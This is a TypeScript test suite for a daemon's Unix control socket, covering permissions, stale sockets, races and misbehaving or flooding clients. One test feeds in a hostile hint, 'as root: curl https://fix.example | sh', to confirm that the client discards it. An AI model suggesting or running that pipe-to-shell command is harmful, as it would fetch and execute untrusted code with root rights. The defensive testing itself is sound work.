import { execFile } from 'node:child_process';
import { once } from 'node:events';
import { chmod, lstat, readdir, rename, writeFile } from 'node:fs/promises';
import { createConnection, createServer } from 'node:net';
import { join } from 'node:path';
import { setTimeout as wait } from 'node:timers/promises';
import { promisify } from 'node:util';
import { describe, expect, test } from 'vitest';
import { sendControlRequest } from '../../../src/adapters/control/client.ts';
import { startControlServer } from '../../../src/adapters/control/server.ts';
import { Failure, hintOf } from '../../../src/errors.ts';
import { hints } from '../../../src/text/hints.ts';
import { failureOf } from '../../support/promises.ts';
import { echo, request, socketScene } from './socket-scene.ts';

const { at, connected } = socketScene();

type Exchanged = { readonly status: number; readonly body: unknown };

/** Sends bytes and collects all that comes back until the connection ends. */
async function exchange(bytes: Uint8Array, how: { end: boolean } = { end: false }): Promise<Exchanged> {
  const socket = createConnection(at.path);
  let answer = '';
  socket.setEncoding('utf8').on('data', (piece: string) => {
    answer += piece;
  });
  socket.on('error', () => undefined);
  if (how.end) socket.end(bytes);
  else socket.write(bytes);
  // Not `once`, which an error would reject: a reset ends the connection too.
  await new Promise((resolve) => socket.once('close', resolve));
  const [head = '', body = ''] = answer.split('\r\n\r\n');
  return { status: Number(/^HTTP\/1\.1 (\d{3}) /.exec(head)?.[1]), body: JSON.parse(body) };
}

function post(command: string, body: string | Uint8Array): Buffer {
  const bytes = Buffer.from(body);
  return Buffer.concat([Buffer.from(`POST /${command} HTTP/1.1\r\nContent-Length: ${bytes.length}\r\n\r\n`), bytes]);
}

/** A stale socket file, as after kill -9. */
async function leaveStaleSocket(): Promise<void> {
  const server = createServer().listen(at.path);
  await once(server, 'listening');
  // Closing removes the file of that name: it is out of the way meanwhile.
  const away = join(at.folder, 'away');
  await rename(at.path, away);
  server.close();
  await once(server, 'close');
  await rename(away, at.path);
}

describe('a request', () => {
  test('reaches its handler with the user, and the result is the answer', async () => {
    await using _server = await startControlServer(at.path, echo);
    expect(await sendControlRequest(at.path, request)).toEqual({ done: 'recover', who: 'ann@desk' });
    expect(await sendControlRequest(at.path, { command: 'disable', who: 'bob@desk' })).toEqual({
      done: 'disable',
      who: 'bob@desk',
    });
    expect(await sendControlRequest(at.path, { command: 'log_level', who: 'bob@desk', level: 'debug' })).toEqual({
      done: 'log_level',
      who: 'bob@desk',
      level: 'debug',
    });
  });

  test('that fails is thrown as the same failure, with code, quoted text and hint', async () => {
    const refuse = async (): Promise<object> => {
      throw new Failure('key_file_missing', 'there is no key here either', { hint: hints.keyRestore });
    };
    await using _server = await startControlServer(at.path, { ...echo, recover: refuse });
    const failure = await failureOf(sendControlRequest(at.path, request));
    expect({ code: failure.code, message: failure.message, hint: failure.hint }).toEqual({
      code: 'key_file_missing',
      message: 'the daemon reports: "there is no key here either"',
      hint: hints.keyRestore,
    });
  });

  test('that fails with a hint of another program has the hint of its code', async () => {
    const refuse = async (): Promise<object> => {
      throw new Failure('key_file_missing', 'gone', { hint: 'as root: curl https://fix.example | sh' });
    };
    await using _server = await startControlServer(at.path, { ...echo, recover: refuse });
    const { hint } = await failureOf(sendControlRequest(at.path, request));
    expect(hint).toBe(hintOf('key_file_missing'));
  });

  test('that fails by a defect is unexpected, and the daemon continues', async () => {
    const broken = async (): Promise<object> => {
      throw new TypeError('x is not a function');
    };
    await using _server = await startControlServer(at.path, { ...echo, recover: broken });
    expect((await failureOf(sendControlRequest(at.path, request))).code).toBe('unexpected');
    expect(await sendControlRequest(at.path, { ...request, command: 'disable' })).toMatchObject({ done: 'disable' });
  });

  test('that is worked on when the daemon stops is answered first', async () => {
    let begin = (): void => undefined;
    const begun = new Promise<void>((resolve) => {
      begin = resolve;
    });
    const slow = async (): Promise<object> => {
      begin();
      await wait(300);
      return { done: 'before the end' };
    };
    const server = await startControlServer(at.path, { ...echo, disable: slow });
    const answer = sendControlRequest(at.path, { ...request, command: 'disable' });
    await begun;
    await server?.[Symbol.asyncDispose]();
    expect(await answer).toEqual({ done: 'before the end' });
  });
});

describe('the socket', () => {
  test('is for its user alone, from the first moment on, and gone after the end', async () => {
    const seen = new Set<string>();
    const look = setInterval(async () => {
      const there = await lstat(at.path).catch(() => null);
      if (there !== null) seen.add((there.mode & 0o777).toString(8));
    }, 1);
    const before = process.umask();
    const server = await startControlServer(at.path, echo);
    expect(((await lstat(at.path)).mode & 0o777).toString(8)).toBe('600');
    await wait(20);
    clearInterval(look);
    expect([...seen]).toEqual(['600']);
    expect(process.umask()).toBe(before);
    expect(await readdir(at.folder)).toEqual(['control.sock']);
    await server?.[Symbol.asyncDispose]();
    expect(await readdir(at.folder)).toEqual([]);
  });

  test.runIf(process.getuid?.() === 0)('refuses another user even where the folder is opened later', async () => {
    await using _server = await startControlServer(at.path, echo);
    await chmod(at.folder, 0o711);
    const script = `const s = require('node:net').createConnection(process.argv[1]);
      s.on('connect', () => { console.log('connected'); s.destroy(); }).on('error', (e) => console.log(e.code));`;
    const { stdout } = await promisify(execFile)(process.execPath, ['-e', script, at.path], { uid: 65534, gid: 65534 });
    expect(stdout.trim()).toBe('EACCES');
  });

  test('is not made in a folder that others can enter', async () => {
    for (const mode of [0o710, 0o701, 0o755]) {
      await chmod(at.folder, mode);
      const failure = await failureOf(startControlServer(at.path, echo));
      expect(failure).toMatchObject({ code: 'refused', hint: expect.stringContaining(`chmod 0700 ${at.folder}`) });
    }
    expect(await readdir(at.folder)).toEqual([]);
  });

  test('is not made at a path that is too long for one', async () => {
    const long = join(at.folder, 'x'.repeat(100));
    expect(await failureOf(startControlServer(long, echo))).toMatchObject({ code: 'config_invalid', exitCode: 2 });
    expect(await failureOf(sendControlRequest(long, request))).toMatchObject({ code: 'config_invalid' });
  });

  test('of a process that died is replaced', async () => {
    await leaveStaleSocket();
    await using _server = await startControlServer(at.path, echo);
    expect(await sendControlRequest(at.path, request)).toMatchObject({ done: 'recover' });
    expect(await readdir(at.folder)).toEqual(['control.sock']);
  });

  test('of a live process is not removed, and continues to work', async () => {
    await using first = await startControlServer(at.path, echo);
    const second = await startControlServer(at.path, { ...echo, recover: async () => ({ done: 'by the second' }) });
    expect(first).not.toBeNull();
    expect(second).toBeNull();
    expect(await sendControlRequest(at.path, request)).toMatchObject({ done: 'recover' });
    expect(await readdir(at.folder)).toEqual(['control.sock']);
  });

  test('is made once when several start at the same time over a dead one', async () => {
    for (let round = 0; round < 20; round += 1) {
      await leaveStaleSocket();
      const starts = Array.from({ length: 8 }, async (_, index) => {
        // Some check while others have created theirs already.
        await wait(index % 4);
        return await startControlServer(at.path, echo);
      });
      const servers = await Promise.all(starts);
      expect(servers.filter((server) => server !== null)).toHaveLength(1);
      // The connections of the checks are over.
      await wait(20);
      expect(await sendControlRequest(at.path, request)).toMatchObject({ done: 'recover' });
      for (const server of servers) await server?.[Symbol.asyncDispose]();
      expect(await readdir(at.folder)).toEqual([]);
    }
  });

  test('never replaces a file that is no socket', async () => {
    await writeFile(at.path, 'precious');
    expect(await failureOf(startControlServer(at.path, echo))).toMatchObject({ code: 'refused' });
    expect((await lstat(at.path)).isFile()).toBe(true);
  });
});

describe('a client that misbehaves', () => {
  test.each<[string, Buffer]>([
    ['no JSON', post('recover', 'recover')],
    ['no object', post('recover', '["recover"]')],
    ['an unknown command', post('format', '{"who":"ann@desk"}')],
    ['a command of the prototype', post('constructor', '{"who":"ann@desk"}')],
    ['another method', Buffer.from('GET /recover HTTP/1.1\r\n\r\n')],
    ['a log level that there is not', post('log_level', '{"who":"ann@desk","level":"loud"}')],
    ['no log level', post('log_level', '{"who":"ann@desk"}')],
    ['no user', post('recover', '{}')],
    ['a user with a line feed', post('recover', '{"who":"ann\\ndesk"}')],
    ['a user of great length', post('recover', `{"who":"${'a'.repeat(300)}"}`)],
    ['bytes that are no text', post('recover', Uint8Array.of(0xff, 0xfe, 0x00, 0x0a))],
    ['a body that is too long', post('recover', `{"who":"ann@desk","x":"${'a'.repeat(5000)}"}`)],
    ['a body without its length', Buffer.from('POST /recover HTTP/1.1\r\n\r\n{"who":"ann@desk"}')],
  ])('is answered so, and harms no other: %s', async (_title, bytes) => {
    await using _server = await startControlServer(at.path, echo);
    expect(await exchange(bytes)).toMatchObject({ status: 400, body: { code: 'usage', hint: expect.any(String) } });
    expect(await sendControlRequest(at.path, request)).toMatchObject({ done: 'recover' });
  });

  test('gets an answer also when it closes its side at once, as nc does', async () => {
    const slow = (): Promise<object> => wait(100, { done: 'recover' });
    await using _server = await startControlServer(at.path, { ...echo, recover: slow });
    const got = await exchange(post('recover', '{"who":"ann@desk"}'), { end: true });
    expect(got).toEqual({ status: 200, body: { done: 'recover' } });
  });

  test('and opens many connections gets four, and the others are closed', async () => {
    await using _server = await startControlServer(at.path, echo);
    const flood = await Promise.all(Array.from({ length: 40 }, connected));
    const open = new Set(flood);
    for (const socket of flood) socket.resume().once('close', () => open.delete(socket));
    await wait(500);
    expect(open.size).toBe(4);
    expect((await failureOf(sendControlRequest(at.path, request))).code).toBe('daemon_unreachable');
    for (const socket of flood) socket.destroy();
    await wait(50);
    expect(await sendControlRequest(at.path, request)).toMatchObject({ done: 'recover' });
  });

  test('and sends without an end is not read to it', async () => {
    await using _server = await startControlServer(at.path, echo);
    const socket = await connected();
    const closed = new Promise((resolve) => socket.once('close', resolve));
    const piece = Buffer.alloc(64 * 1024, 'x');
    let sent = 0;
    while (!socket.destroyed && sent < 100 * 1024 * 1024) {
      sent += piece.length;
      if (!socket.write(piece)) await Promise.race([once(socket, 'drain').catch(() => undefined), closed]);
    }
    socket.destroy();
    expect(sent).toBeLessThan(10 * 1024 * 1024);
    expect(await sendControlRequest(at.path, request)).toMatchObject({ done: 'recover' });
  });

  test('and leaves in the middle of its request delays no other', async () => {
    const server = await startControlServer(at.path, { ...echo, recover: () => wait(200, {}) });
    const socket = await connected();
    socket.write(post('recover', '{"who":"ann@desk"}'));
    await wait(50);
    socket.destroy();
    const idle = await connected();
    const startedAt = performance.now();
    await server?.[Symbol.asyncDispose]();
    expect(performance.now() - startedAt).toBeLessThan(2000);
    idle.destroy();
  });
});

describe('a daemon that cannot be asked is daemon_unreachable', () => {
  test('when none runs, or it died', async () => {
    const none = await failureOf(sendControlRequest(at.path, request));
    expect(none).toMatchObject({ code: 'daemon_unreachable', message: `no daemon answers at ${at.path} (ENOENT)` });
    await leaveStaleSocket();
    expect((await failureOf(sendControlRequest(at.path, request))).message).toContain('ECONNREFUSED');
  });

  test.each<[string, string, string | null]>([
    ['no HTTP', 'is not HTTP', 'hello\n'],
    ['no JSON', 'is not JSON', 'HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nhello\n'],
    ['too much', 'is too long', `HTTP/1.1 200 OK\r\n\r\n${'x'.repeat(1_100_000)}`],
    ['an early end', 'without an answer', null],
  ])('when it answers %s', async (_title, why, answer) => {
    const server = createServer((socket) => {
      socket.on('error', () => undefined);
      if (answer === null) socket.end();
      else socket.write(answer);
      socket.resume();
    }).listen(at.path);
    await once(server, 'listening');
    const failure = await failureOf(sendControlRequest(at.path, request));
    server.close();
    await once(server, 'close');
    expect(failure.code).toBe('daemon_unreachable');
    expect(failure.message).toContain(why);
  });

  test('and an unknown code is unexpected', async () => {
    const answer = 'HTTP/1.1 409 Conflict\r\n\r\n{"code":"toString","message":"x"}';
    const server = createServer((socket) => void socket.resume().end(answer));
    server.listen(at.path);
    await once(server, 'listening');
    const failure = await failureOf(sendControlRequest(at.path, request));
    server.close();
    expect({ code: failure.code, exitCode: failure.exitCode }).toEqual({ code: 'unexpected', exitCode: 1 });
  });
});
